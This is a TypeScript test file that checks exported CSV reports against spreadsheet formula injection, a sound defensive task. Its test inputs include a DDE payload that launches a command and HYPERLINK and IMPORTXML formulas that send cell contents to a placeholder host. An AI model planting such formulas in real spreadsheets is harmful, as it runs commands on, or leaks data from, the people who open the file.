import { globSync, readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { harmlessCell } from "@/lib/base/harmless-cell";
import { getTranslator } from "@/lib/i18n/translator";
import { reportCsv } from "@/lib/imports/uploading/report";
import { payloads } from "@/tests/support/payloads";

const formulas = [
  "=1+1",
  "+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://x.example/?"&A1,"x")',
  '=IMPORTXML(CONCAT("https://x.example/",A1),"//a")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '"=1+1',
  "'=1+1",
  "%0A=1+1",
  "|=1+1",
  "harmless;=1+1;x",
  "harmless\t=1+1",
  "harmless,=1+1",
  "harmless\n=1+1",
];

/** As spreadsheets split it that were told another separator: by any of them, with or without minding quotes. */
function cells(csv: string): string[] {
  const lines = csv.replace(/^\ufeff/, "");
  const minding = [",", ";", "\t"].flatMap((delimiter) =>
    (
      parse(lines, {
        delimiter,
        relax_quotes: true,
        relax_column_count: true,
        skip_empty_lines: true,
      }) as string[][]
    ).flat(),
  );
  return [...minding, ...lines.split(/[;\t]/)];
}

test.each([...formulas, ...payloads.slice(0, 60)])(
  "%j in a table is no formula, however it is split",
  (text) => {
    const reason = { code: "unknownIdea", params: { value: text, id: text, idea: text } } as const;
    const entry = { file: text, line: 1, outcome: "note", column: text, reason } as const;
    const csv = reportCsv(getTranslator("en"), [entry]);
    expect(csv).toContain("note".slice(1));
    for (const cell of cells(csv)) expect(cell).not.toMatch(/^[\s\p{Cf}"]*[=+\-@＝＋－＠]/u);
  },
);

test("what is no formula stays as it was", () => {
  for (const text of ["A bench", "Rue de l’Église 4-6", "3.5", "a@b.example", "50 % of 4", "x = y"]) {
    expect(harmlessCell(text)).toBe(text);
  }
});

test("every table that we write makes its cells harmless", () => {
  const writers = globSync("{app,lib,db}/**/*.{ts,tsx}").filter((file) =>
    /from "csv-stringify/.test(readFileSync(file, "utf8")),
  );
  expect(writers.length).toBeGreaterThan(0);
  for (const file of writers) {
    const code = readFileSync(file, "utf8");
    expect(code, file).toContain("cast: { string: harmlessCell }");
    for (const [call] of code.matchAll(/\bstringify\([^;]*;/g)) expect(call, file).toMatch(/harmless/);
  }
});
